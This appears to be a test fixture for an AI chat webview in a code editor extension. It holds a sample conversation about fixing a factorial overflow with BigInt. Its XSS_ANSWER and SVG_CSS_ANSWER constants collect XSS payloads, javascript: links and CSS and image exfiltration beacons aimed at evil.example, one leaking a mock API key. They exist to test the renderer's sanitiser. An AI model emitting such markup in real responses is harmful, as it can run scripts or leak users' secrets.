/** Host messages for the webview tests: a model, attachments, a realistic conversation, payloads. */
import type { AttachmentView, ChatMessageView, HostToWebview, ModelBadge } from '../../src/protocol/messages';

export const SONNET: ModelBadge = {
  id: 'anthropic/claude-sonnet-4',
  name: 'Anthropic: Claude Sonnet 4',
  contextLength: 200_000,
  fallbacks: ['google/gemini-2.5-flash', 'openai/gpt-4.1-mini'],
};

export const SELECTION: AttachmentView = {
  id: 'att-sel',
  kind: 'selection',
  label: 'src/math.ts:3-9',
  tokens: 182,
  truncated: false,
  originalTokens: 182,
};
export const BIG_FILE: AttachmentView = {
  id: 'att-file',
  kind: 'file',
  label: 'src/parser/tokenizer.ts',
  tokens: 4000,
  truncated: true,
  originalTokens: 9800,
};

export function init(overrides: Partial<Extract<HostToWebview, { type: 'init' }>> = {}): HostToWebview {
  return { type: 'init', messages: [], model: SONNET, hasKey: true, attachments: [], busy: false, ...overrides };
}

let clock = 1_760_000_000_000;
function at(): number {
  clock += 30_000;
  return clock;
}

export function user(id: string, text: string, attachments?: readonly AttachmentView[]): ChatMessageView {
  return { id, role: 'user', text, status: 'done', createdAt: at(), ...(attachments ? { attachments } : {}) };
}

export function assistant(id: string, text: string, rest: Partial<ChatMessageView> = {}): ChatMessageView {
  return { id, role: 'assistant', text, status: 'done', createdAt: at(), ...rest };
}

export const FIRST_ANSWER = `\`factorial(25)\` overflows **\`Number.MAX_SAFE_INTEGER\`** (2^53 − 1): past \`21!\` the result can no longer be represented exactly, so you get a rounded float.

Use \`BigInt\` so every step stays exact:

\`\`\`ts
export function factorial(n: number): bigint {
  if (!Number.isInteger(n) || n < 0) throw new RangeError(\`n must be a natural number, got \${n}\`);
  let result = 1n;
  for (let i = 2n; i <= BigInt(n); i++) result *= i;
  return result;
}
\`\`\`

- Callers now get a \`bigint\`; format it with \`result.toString()\`.
- For \`n > 170\` the old version returned \`Infinity\`; this one keeps going.`;

export const SECOND_ANSWER = `Here is a test with \`node:test\`:

\`\`\`ts
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { factorial } from '../src/math';

test('factorial is exact past 2^53', () => {
  assert.equal(factorial(25), 15511210043330985984000000n);
});
\`\`\``;

/** A conversation that exercises most of the UI: attachments, code, a fallback, a stop, an error. */
export function conversation(): ChatMessageView[] {
  return [
    user('u1', 'Why does factorial(25) return a weird number? Can you fix it?', [SELECTION]),
    assistant('a1', FIRST_ANSWER, {
      meta: {
        requestedModel: SONNET.id,
        model: SONNET.id,
        provider: 'Anthropic',
        promptTokens: 1284,
        completionTokens: 356,
        cost: 0.009192,
        ttftMs: 820,
        generationId: 'gen-1',
      },
    }),
    user('u2', 'Add a test for it'),
    assistant('a2', SECOND_ANSWER, {
      meta: {
        requestedModel: SONNET.id,
        model: 'google/gemini-2.5-flash',
        provider: 'Google AI Studio',
        promptTokens: 1702,
        completionTokens: 118,
        cost: 0.000412,
        ttftMs: 1430,
      },
    }),
    user('u3', 'Now make it memoized'),
    assistant('a3', 'Memoizing helps when you call it', {
      status: 'error',
      meta: { requestedModel: SONNET.id },
      error: {
        kind: 'credits',
        title: 'Out of credits',
        message:
          'Your OpenRouter account has no credits left for this request (402). Add credits, or pick a free model.',
        action: { label: 'Open Credits Page', command: 'switchyard.openCredits' },
      },
    }),
  ];
}

/** Markdown that tries everything a hostile model could try. */
export const XSS_ANSWER = [
  'Plain text <script>window.__pwned=1</script> after a script.',
  '',
  '<img src=x onerror="window.__pwned=1">',
  '',
  'A link: [x](javascript:window.__pwned=1) and [y](JAVASCRIPT:window.__pwned=1) and <javascript:window.__pwned=1>',
  '',
  '<svg onload="window.__pwned=1"><script>window.__pwned=1</script></svg>',
  '',
  '<style>body{background:url(https://evil.example/steal?c=1)}</style>',
  '',
  '<iframe src="javascript:window.__pwned=1"></iframe><object data="https://evil.example/x"></object>',
  '',
  '<a href="javascript:window.__pwned=1" onclick="window.__pwned=1">raw anchor</a> <form action="https://evil.example"><input name="a"><button>go</button></form>',
  '',
  '![img](javascript:window.__pwned=1) ![pixel](http://evil.example/pixel.png) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '',
  '![exfiltrate](https://evil.example/collect?secret=sk-or-v1-stolen) ![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=)',
  '',
  '[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+) [vscode](vscode://settings) [file](file:///etc/passwd) [cmd](command:workbench.action.terminal.new)',
  '',
  '[ok](https://example.com/docs "docs") and mail <someone@example.com>',
  '',
  '```html" onmouseover="window.__pwned=1',
  '<script>window.__pwned=1</script>',
  '```',
].join('\n');

/** About `tokens` tokens (~4 characters each) of varied markdown: prose, lists, code, a table. */
export function longAnswer(tokens: number): string {
  const sections: string[] = [];
  for (let i = 1; sections.join('\n\n').length < tokens * 4; i++) {
    sections.push(
      `## Step ${i}: refine the **parser**`,
      `The tokenizer reads \`chunk ${i}\` and emits tokens; each token carries its offset so that errors can point at the exact column. This paragraph is long enough to wrap several times in a narrow sidebar, which is what a real answer looks like.`,
      `1. Read the input\n2. Split on whitespace and punctuation, keeping \`${i}\` positions\n3. Emit the tokens`,
      `\`\`\`ts\nexport function step${i}(input: string): Token[] {\n  const out: Token[] = [];\n  for (const [offset, ch] of [...input].entries()) out.push({ ch, offset });\n  return out;\n}\n\`\`\``,
      `| step | cost | note |\n| :--- | ---: | :---: |\n| ${i} | ${i * 3} ms | ok |`,
    );
  }
  return sections.join('\n\n');
}

/** SVG, CSS-exfiltration and javascript:-link payloads beyond {@link XSS_ANSWER}. */
export const SVG_CSS_ANSWER = [
  'SVG payloads:',
  '',
  '<svg><a xlink:href="javascript:window.__pwned=1"><text x="0" y="20">svg link</text></a></svg>',
  '<svg><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="window.__pwned=1"/></svg>',
  '<svg><image href="https://evil.example/svg-image.png"/><use href="https://evil.example/sprite.svg#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
  '',
  'CSS exfiltration:',
  '',
  '<div style="background-image:url(https://evil.example/css-attr?k=1)">styled div</div>',
  '<span style="background:url(&quot;https://evil.example/css-quoted&quot;)">quoted style</span>',
  '<style>@import url(https://evil.example/import.css); @font-face{font-family:x;src:url(https://evil.example/font)} body{background:url(https://evil.example/body)}</style>',
  '<link rel="stylesheet" href="https://evil.example/sheet.css"><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<img srcset="https://evil.example/srcset.png 1x"> <video poster="https://evil.example/poster.png"></video> <audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<table background="https://evil.example/table.png"><tr><td>old attr</td></tr></table>',
  '',
  'javascript: links:',
  '',
  '<details open ontoggle="window.__pwned=1"><summary>toggle</summary></details>',
  '[svg data](data:image/svg+xml,<svg onload=window.__pwned=1>) [entity](&#106;avascript:window.__pwned=1) [tab](java\tscript:window.__pwned=1) [vb](vbscript:msgbox)',
  '<a href="  javascript:window.__pwned=1">spaced</a> <a href="jav&#x09;ascript:window.__pwned=1">tabbed entity</a>',
  '',
  'The end.',
].join('\n');
